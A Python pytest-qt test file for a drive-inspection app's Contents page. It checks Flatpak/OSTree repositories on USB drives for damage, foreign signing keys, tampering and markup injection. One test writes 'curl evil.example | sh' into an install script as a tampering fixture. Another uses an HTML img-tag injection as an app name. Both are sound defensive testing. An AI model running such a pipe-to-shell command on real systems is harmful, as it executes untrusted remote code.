"""The Contents page: looking at a drive, checking it, and taking a report along."""

from __future__ import annotations

import json
import shutil
import subprocess
from collections.abc import Callable, Iterator
from functools import partial
from pathlib import Path

import pytest
from PySide6.QtCore import QRect, Qt
from PySide6.QtWidgets import (
    QComboBox,
    QFileDialog,
    QPushButton,
    QTabWidget,
    QTreeView,
    QWidget,
)
from pytestqt.qtbot import QtBot

from app.drive.drive import Drive, Volume
from app.flatpak.remotes.remote import Remote, RemoteOrigin
from app.message import NOTHING
from app.progress import GROUPS, Phase, Placed
from app.stick.environment import Environment
from tests.client import Client
from tests.gpg import SigningKey
from tests.kept import kept_upstream
from tests.servers import Server
from tests.stick.conftest import make
from tests.stick.damage import HELLO, METADATA, Stick, copy_stick, flip_middle
from tests.ui.user_actions import find_control
from tests.ui.widget_tree import texts
from tests.ui.window_states import demo_stick
from tests.upstream import COLLECTION, Upstream
from tests.waiting import GUARD_MS
from ui.models.work_cells import CellState
from ui.pages.contents.check_view import CheckView
from ui.pages.contents.collections import CollectionsDialog
from ui.pages.contents.page import ContentsPage
from ui.pages.contents.refs_model import RefColumn
from ui.pages.contents.refs_table import RefsTable
from ui.pages.contents.treemap import TreeMap
from ui.state.page_name import PageName
from ui.state.session import Target
from ui.style import style
from ui.widgets.primary_button import PrimaryButton
from ui.widgets.state_panel import StatePanel
from ui.widgets.work_map import WorkMap
from ui.window.main_window import MainWindow

_LONG = GUARD_MS
_NARROW = "\N{NO-BREAK SPACE}"


def fill(upstream: Upstream) -> None:
    upstream.add_runtime(runnable=False, languages=("de", "en"))
    upstream.add_app("org.test.Hello", languages=("de",), files={"share/big": "x\n" * 5000})
    upstream.add_app("org.test.Other", size=200_000)
    upstream.update(ostree_metadata=True)


@pytest.fixture(scope="module")
def upstream(upstream_key: SigningKey, tmp_path_factory: pytest.TempPathFactory) -> Upstream:
    return kept_upstream(tmp_path_factory.mktemp("contents") / "upstream", upstream_key, fill)


@pytest.fixture(scope="module")
def good(upstream: Upstream, tmp_path_factory: pytest.TempPathFactory) -> Path:
    directory = tmp_path_factory.mktemp("good") / "made"
    return make(directory, upstream, "org.test.Hello", "org.test.Other")


@pytest.fixture
def attacker() -> Iterator[SigningKey]:
    key = SigningKey("Attacker <attacker@example.org>")
    yield key
    key.close()


@pytest.fixture(scope="module")
def foreign(upstream: Upstream, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """As ``flatpak create-usb`` makes it."""
    directory = tmp_path_factory.mktemp("foreign")
    client = Client(directory / "client")
    drive = directory / "drive"
    drive.mkdir()
    with Server(upstream.path) as server:
        client.remote_add_upstream("up", upstream, server.url)
        client.install("up", "org.test.Hello")
        client.run("create-usb", "--user", drive, "org.test.Hello")
    return drive


class Person:
    """Somebody at the Contents page."""

    def __init__(self, window: MainWindow, qtbot: QtBot) -> None:
        page = window.pages[PageName.CONTENTS]
        assert isinstance(page, ContentsPage)
        self.window = window
        self.page = page
        self.qtbot = qtbot

    def until(self, condition: Callable[[], object]) -> None:
        self.qtbot.waitUntil(lambda: bool(condition()), timeout=_LONG)

    def looks_at(self, root: Path) -> None:
        """The drive chosen on the Drive page."""
        self.window.session.set_target(Target(root, root.name))
        self.window.open(PageName.CONTENTS)

    def opens(self, root: Path, monkeypatch: pytest.MonkeyPatch) -> None:
        monkeypatch.setattr(QFileDialog, "getExistingDirectory", lambda *_: str(root))
        self.clicks("Open a folder…")

    def clicks(self, text: str) -> None:
        self.qtbot.mouseClick(self.button(text), Qt.MouseButton.LeftButton)

    def button(self, text: str) -> QPushButton:
        return next(
            one
            for one in self.page.findChildren(QPushButton)
            if one.text() == text and one.isVisible()
        )

    def presses(self) -> None:
        """The page's one button, by its shortcut."""
        self.qtbot.keyClick(self.window, Qt.Key.Key_Return, Qt.KeyboardModifier.ControlModifier)

    @property
    def primary(self) -> str:
        found = self.window.findChild(PrimaryButton)
        assert found is not None
        return found.text() if found.isVisible() else ""

    @property
    def panel(self) -> str:
        """What is said in place of contents."""
        shown = [one for one in self.page.findChildren(StatePanel) if one.isVisible()]
        return " ".join(f"{one.accessibleName()} {one.accessibleDescription()}" for one in shown)

    @property
    def said(self) -> str:
        """All that can be read on the page."""
        return "\n".join(text for _, text in texts(self.page))

    @property
    def check(self) -> CheckView:
        found = self.page.findChild(CheckView)
        assert found is not None
        return found

    @property
    def picture(self) -> TreeMap:
        found = self.page.findChild(TreeMap)
        assert found is not None
        return found

    @property
    def work(self) -> WorkMap:
        found = self.check.findChild(WorkMap)
        assert found is not None
        return found

    def offers(self, text: str) -> bool:
        buttons = self.page.findChildren(QPushButton)
        return any(one.text() == text and one.isVisible() for one in buttons)

    @property
    def table(self) -> RefsTable:
        found = self.page.findChild(RefsTable)
        assert found is not None
        return found

    def tab(self, number: int) -> None:
        found = self.page.findChild(QTabWidget)
        assert found is not None
        found.setCurrentIndex(number)

    def column(self, column: RefColumn) -> list[str]:
        model = self.table.model()
        return [str(model.index(row, column).data()) for row in range(model.rowCount())]

    def checks(self) -> str:
        """Check, to the end; the verdict."""
        self.until(lambda: self.primary.startswith("Check"))
        self.presses()
        self.until(lambda: self.primary == "Check again")
        return self.check.verdict

    def find_control(self) -> list[str]:
        model = self.check.findings.model()
        return [
            str(model.index(row, 0).data(Qt.ItemDataRole.AccessibleTextRole))
            for row in range(model.rowCount())
        ]


def colours(widget: QWidget) -> set[str]:
    """All that are in its picture."""
    image = widget.grab().toImage()
    return {
        image.pixelColor(x, y).name() for x in range(image.width()) for y in range(image.height())
    }


@pytest.fixture
def person(
    open_window: Callable[..., MainWindow], environment: Environment, qtbot: QtBot
) -> Person:
    return Person(open_window(environment), qtbot)


@pytest.fixture
def friend(
    open_window: Callable[..., MainWindow],
    environment: Environment,
    qtbot: QtBot,
    upstream_key: SigningKey,
) -> Person:
    """Somebody whose computer knows the remote."""
    keys = (upstream_key.public,)
    remote = Remote(
        "up", "file:///gone", collection_id=COLLECTION, keys=keys, origin=RemoteOrigin.USER
    )
    return Person(open_window(environment, built_in=(remote,)), qtbot)


def test_a_sound_drive(friend: Person, good: Path, upstream_key: SigningKey) -> None:
    friend.looks_at(good)
    friend.until(lambda: "Everything agrees" in friend.said)
    assert "made on" in friend.said
    assert friend.primary == "Check now"
    assert friend.checks().startswith("It is sound")
    assert not friend.find_control()
    assert upstream_key.fingerprint in friend.said
    assert "This computer knows it as that of up." in friend.said


def test_a_drive_that_nobody_here_knows(
    person: Person, good: Path, upstream_key: SigningKey
) -> None:
    person.looks_at(good)
    verdict = person.checks()
    assert "sound" not in verdict
    assert "nobody here knows whose it is" in verdict
    said = " ".join(map(str, person.find_control()))
    assert upstream_key.fingerprint in said


def test_every_part_of_the_drive_is_in_the_picture_once(person: Person, good: Path) -> None:
    person.looks_at(good)
    person.until(person.picture.view.isVisible)
    model = person.picture.view.model()
    spoken = [
        str(model.index(row, 0).data(Qt.ItemDataRole.AccessibleTextRole))
        for row in range(model.rowCount())
    ]
    assert len([one for one in spoken if "A runtime" in one]) == 1
    assert any(one.startswith("Other, ") and "only it" in one for one in spoken)
    assert all(_NARROW in one for one in spoken)


def test_the_table_tells_and_sorts(person: Person, good: Path) -> None:
    person.looks_at(good)
    person.tab(1)
    person.until(lambda: _NARROW in "".join(person.column(RefColumn.SIZE)))
    names = person.column(RefColumn.NAME)
    assert names[:2] == ["Hello", "Other"]
    hello = names.index("Hello")
    assert person.column(RefColumn.VERSION)[hello] == "1.0"
    assert person.column(RefColumn.STATE)[hello] == "Up to date"
    assert person.column(RefColumn.SIGNER)[hello]
    assert "@" not in person.column(RefColumn.SIGNER)[hello]
    assert person.column(RefColumn.LANGUAGES)[hello] == "de"
    person.table.sortByColumn(RefColumn.SIZE, Qt.SortOrder.DescendingOrder)
    assert person.column(RefColumn.NAME)[0] == "Other"


def test_a_damaged_drive_and_what_to_do(person: Person, good: Path, tmp_path: Path) -> None:
    stick = copy_stick(good, tmp_path / "stick")
    flip_middle(stick.path(stick.object("filez")))
    person.looks_at(stick.root)
    assert person.checks().startswith("It is not sound")
    [damage] = [one for one in person.find_control() if "damaged" in one]
    assert "needed by Hello, is damaged" in damage
    assert "fetches what is damaged again" in damage
    assert "Everything agrees" not in person.said


def test_a_damaged_part_is_red_in_the_picture_and_told_by_shape_and_words(
    person: Person, good: Path, stick: Stick
) -> None:
    person.looks_at(good)
    person.checks()
    sound = person.work.counts()
    assert sound[CellState.DAMAGED] == 0
    red = style.tone(person.work.palette(), style.Tone.BAD).name()
    assert red not in colours(person.work)

    flip_middle(stick.path(stick.object("filez")))
    person.looks_at(stick.root)
    person.checks()
    counts = person.work.counts()
    assert counts[CellState.DAMAGED] == 1
    assert counts[CellState.VERIFIED] == sound[CellState.VERIFIED] - 1
    assert red in colours(person.work)
    assert "1 damaged" in person.work.accessibleDescription()
    assert "1 damaged" in person.said


def test_states_in_the_picture_differ_in_shape(qtbot: QtBot) -> None:
    """In black and white, too."""
    seen = set()
    for bad, done in ((0, 0), (0, 1), (1, 1)):
        work = WorkMap(checks_only=True)
        qtbot.addWidget(work)
        work.resize(400, 200)
        work.begin(1)
        work.place(Placed(Phase.VERIFY, (1,) * GROUPS, (done,) * GROUPS, (bad,) * GROUPS))
        image = work.grab(QRect(0, 0, 40, 40)).toImage()
        seen.add(bytes(image.convertToFormat(image.Format.Format_Mono).constBits()))
    assert len(seen) == 3


def test_the_same_is_said_once_with_the_names_that_people_know(
    person: Person, stick: Stick
) -> None:
    for name in (stick.object("filez"), stick.object("dirtree"), stick.object("dirmeta")):
        flip_middle(stick.path(name))
    person.looks_at(stick.root)
    person.checks()
    assert HELLO not in "".join(person.find_control())
    assert "Hello" in "".join(person.find_control())


def test_who_cannot_trust_a_drive_is_led_to_the_drives(
    person: Person, stick: Stick, attacker: SigningKey
) -> None:
    stick.sign(HELLO, attacker)
    flip_middle(stick.path(stick.object("filez")))
    person.looks_at(stick.root)
    person.checks()
    assert not person.offers("Write it again…")
    person.clicks("To the drives")
    assert person.window.page.name is PageName.DRIVE


def test_an_unknown_key_leads_to_the_settings_and_a_drive_of_nobody_to_the_apps(
    person: Person, foreign: Path
) -> None:
    person.looks_at(foreign)
    person.checks()
    person.clicks("To the settings")
    assert person.window.page is person.window.pages[PageName.SETTINGS]
    person.window.open(PageName.CONTENTS)
    # Nobody knows where its apps come from: they are for the person to choose.
    person.clicks("Write it again…")
    target = person.window.session.target
    assert target is not None
    assert target.root == foreign
    assert person.window.page.name is PageName.APPS


def test_a_damaged_drive_is_put_in_order_with_a_press(window: MainWindow, qtbot: QtBot) -> None:
    drive = window.session.environment.demo_drive
    assert drive is not None
    shutil.copytree(demo_stick(), drive, dirs_exist_ok=True, symlinks=True)
    objects = drive.glob(".ostree/repo/objects/*/*.filez")
    flip_middle(max(objects, key=lambda path: path.stat().st_size))
    (drive / "satchel/install.sh").write_text("curl evil.example | sh")
    person = Person(window, qtbot)
    window.open(PageName.CONTENTS)
    assert person.checks().startswith("It is not sound")
    [changed] = [one for one in person.find_control() if "install.sh has been changed" in one]
    assert "Do not use it as it is." in changed
    person.clicks("Write it again…")
    assert window.page.name is PageName.REVIEW
    person.until(lambda: person.primary == "Write to the drive")
    person.presses()
    person.until(lambda: window.page.name is PageName.DONE)
    window.open(PageName.CONTENTS)
    assert person.checks().startswith("It is sound")


def test_of_two_repositories_both_can_be_looked_at(
    person: Person, foreign: Path, stick: Stick
) -> None:
    shutil.copytree(foreign / ".ostree/repo", stick.root / "media/repo", symlinks=True)
    (stick.root / ".ostree/repos.d").mkdir(exist_ok=True)
    (stick.root / ".ostree/repos.d/more").symlink_to("../../media/repo")
    person.looks_at(stick.root)
    person.until(lambda: "There are 2 repositories on it" in person.said)
    person.until(lambda: "made on" in person.said)
    box = next(
        one
        for one in person.page.findChildren(QComboBox)
        if one.accessibleName() == "Repository on the drive"
    )
    assert [box.itemText(row) for row in range(box.count())] == [".ostree/repo", "media/repo"]
    box.setFocus()
    person.qtbot.keyClick(box, Qt.Key.Key_Down)
    person.until(lambda: "not made by Satchel" in person.said)
    person.checks()
    assert "was not copied along" in person.said
    # Satchel writes to the first.
    assert not person.offers("Write it again…")

    (stick.repo / "config").write_text("nonsense")
    box.setFocus()
    person.qtbot.keyClick(box, Qt.Key.Key_Up)
    person.until(lambda: "cannot be installed from it" in person.panel)
    person.qtbot.keyClick(box, Qt.Key.Key_Down)
    person.until(lambda: "not made by Satchel" in person.said)


def test_a_repository_with_nothing_in_it(person: Person, tmp_path: Path) -> None:
    repository = tmp_path / "drive/.ostree/repo"
    repository.parent.mkdir(parents=True)
    subprocess.run(["ostree", "init", "--mode=archive", f"--repo={repository}"], check=True)
    person.looks_at(tmp_path / "drive")
    person.until(lambda: "a repository, but no apps" in person.panel)
    assert person.primary == ""


def test_what_an_app_calls_itself_is_never_markup(person: Person, stick: Stick) -> None:
    hostile = "<b>Hello</b><img src='http://127.0.0.1:9/x'>"
    record = stick.satchel / "stick.json"
    written = json.loads(record.read_text())
    for refs in written["refs"].values():
        for ref in refs.values():
            # What the catalogue does not name is called as here.
            ref["name"] = hostile
    record.write_text(json.dumps(written))
    person.looks_at(stick.root)
    person.until(lambda: hostile in person.column(RefColumn.NAME))
    person.until(person.picture.view.isVisible)
    tips = [
        str(model.index(row, column).data(Qt.ItemDataRole.ToolTipRole))
        for model, columns in (
            (person.table.model(), RefColumn),
            (person.picture.view.model(), (0,)),
        )
        for row in range(model.rowCount())
        for column in columns
    ]
    assert any("&lt;img" in tip for tip in tips)
    assert not any("<img" in tip or "<b>" in tip for tip in tips)


def test_what_does_not_agree_is_said_in_plain_words(
    person: Person, good: Path, tmp_path: Path
) -> None:
    stick = copy_stick(good, tmp_path / "stick")
    stick.remove_ref(METADATA)
    shutil.rmtree(stick.satchel / "upstream")
    person.looks_at(stick.root)
    person.until(lambda: "was not copied along" in person.said)
    assert "is missing" in person.said
    assert "Everything agrees" not in person.said


def test_details_for_builders(person: Person, good: Path) -> None:
    person.looks_at(good)
    person.until(lambda: "Everything agrees" in person.said)
    assert "ostree-metadata" not in person.said
    person.clicks("Details…")
    dialog = person.page.findChild(CollectionsDialog)
    assert dialog is not None
    view = dialog.findChild(QTreeView)
    assert view is not None
    model = view.model()
    top = model.index(0, 0)
    names = [model.index(row, 0, top).data() for row in range(model.rowCount(top))]
    assert "ostree-metadata" in names
    person.qtbot.keyClick(dialog, Qt.Key.Key_Escape)
    person.until(lambda: person.page.findChild(CollectionsDialog) is None)


def test_a_drive_that_flatpak_made(
    person: Person, foreign: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    person.window.open(PageName.CONTENTS)
    person.opens(foreign, monkeypatch)
    person.until(lambda: "not made by Satchel" in person.said)
    person.tab(1)
    assert "No list to compare with" in person.column(RefColumn.STATE)
    assert "key not known" in "".join(person.column(RefColumn.SIGNER))
    person.checks()
    assert person.find_control()


def says(person: Person, text: str) -> bool:
    return text in person.said


def test_the_report_as_a_page_and_as_data(
    friend: Person, good: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    friend.looks_at(good)
    friend.until(friend.picture.view.isVisible)
    friend.checks()
    for name in ("report.html", "report.json"):
        path = tmp_path / name
        monkeypatch.setattr(QFileDialog, "getSaveFileName", lambda *_, path=path: (str(path), ""))
        friend.clicks("Save a report…")
        friend.until(path.exists)
        friend.until(partial(says, friend, f"{name}."))
    assert "The drive is sound" in (tmp_path / "report.html").read_text()
    report = json.loads((tmp_path / "report.json").read_text())
    assert report["verify"]["ok"]
    assert report["inspect"]["sizes"]["total"] > 0


def test_a_report_that_cannot_be_written(
    person: Person, good: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    person.looks_at(good)
    person.until(lambda: "Everything agrees" in person.said)
    path = tmp_path / "nowhere" / "report.html"
    monkeypatch.setattr(QFileDialog, "getSaveFileName", lambda *_: (str(path), ""))
    person.clicks("Save a report…")
    person.until(lambda: "writing the report" in person.said)


def test_no_drive_at_all(person: Person) -> None:
    person.window.open(PageName.CONTENTS)
    person.until(lambda: "No drive to look at" in person.panel)
    assert person.primary == ""
    assert person.button("Open a folder…").isEnabled()


def test_a_drive_without_apps_leads_to_choosing(person: Person, tmp_path: Path) -> None:
    drive = tmp_path / "empty"
    drive.mkdir()
    person.looks_at(drive)
    person.until(lambda: "no apps on" in person.panel)
    person.clicks("To the drives")
    assert person.window.page.name is PageName.DRIVE


def test_a_repository_that_cannot_be_read(person: Person, stick: Stick) -> None:
    (stick.repo / "config").write_text("nonsense")
    person.looks_at(stick.root)
    person.until(lambda: "cannot be installed from it" in person.panel)
    shutil.rmtree(stick.root)
    person.clicks("Look again")
    person.until(lambda: "cannot be installed from it" not in person.panel)


@pytest.fixture
def stick(good: Path, tmp_path: Path) -> Stick:
    return copy_stick(good, tmp_path / "stick")


def test_a_check_stops_when_asked(person: Person, good: Path) -> None:
    person.looks_at(good)
    person.until(lambda: person.primary == "Check now")
    person.presses()
    assert person.primary == "Stop checking"
    person.presses()
    person.until(lambda: person.primary == "Check again")
    assert "stopped" in person.panel or person.check.verdict


def test_what_was_written_since_is_seen_on_coming_back(friend: Person, stick: Stick) -> None:
    friend.looks_at(stick.root)
    assert friend.checks().startswith("It is sound")
    friend.window.open(PageName.SETTINGS)
    stick.remove_ref(METADATA)
    friend.window.open(PageName.CONTENTS)
    friend.until(lambda: "is missing" in friend.said)
    assert friend.check.verdict == ""


def test_another_drive_may_be_chosen_and_stays(
    person: Person, good: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    empty = tmp_path / "empty"
    empty.mkdir()
    person.looks_at(good)
    person.until(lambda: "Everything agrees" in person.said)
    person.opens(empty, monkeypatch)
    person.until(lambda: "no apps on" in person.panel)
    box = find_control(person.page, QComboBox, "Drive or folder to look at")
    box.setFocus()
    person.qtbot.keyClick(box, Qt.Key.Key_Up)
    person.until(lambda: "Everything agrees" in person.said)


def drive(*, mounted: Path | None) -> Drive:
    places = (mounted,) if mounted is not None else ()
    volume = Volume("/dev/sdx1", 17, "ext4", "APPS", "A-B", 10**9, places)
    return Drive("/dev/sdx", 16, "", "Stick", "", "usb", 10**9, True, False, NOTHING, (volume,))


def plug(window: MainWindow, *drives: Drive) -> None:
    window.session.drives.drives = drives
    window.session.drives.changed.emit()


def test_a_drive_is_chosen_mounted_and_pulled_out(
    window: MainWindow, qtbot: QtBot, good: Path
) -> None:
    person = Person(window, qtbot)
    plug(window, drive(mounted=None))
    window.open(PageName.CONTENTS)
    box = find_control(person.page, QComboBox, "Drive or folder to look at")
    assert [box.itemText(row) for row in range(box.count())] == ["Demo drive", "APPS"]
    person.until(lambda: "no apps on Demo drive" in person.panel)
    box.setFocus()
    qtbot.keyClick(box, Qt.Key.Key_Down)
    person.until(lambda: "APPS is not mounted" in person.panel)

    plug(window, drive(mounted=good))
    person.until(lambda: "Everything agrees" in person.said)

    plug(window)
    person.until(lambda: "APPS was unplugged" in person.panel)
    assert person.primary == ""

    plug(window, drive(mounted=good))
    person.until(lambda: box.count() == 2)


def test_pulled_out_while_it_is_checked(window: MainWindow, qtbot: QtBot, stick: Stick) -> None:
    person = Person(window, qtbot)
    plug(window, drive(mounted=stick.root))
    window.open(PageName.CONTENTS)
    box = find_control(person.page, QComboBox, "Drive or folder to look at")
    box.setCurrentIndex(1)
    person.until(lambda: person.primary == "Check now")
    person.presses()
    plug(window)
    person.until(lambda: "APPS was unplugged" in person.panel)
    person.until(lambda: not window.bridge.busy)
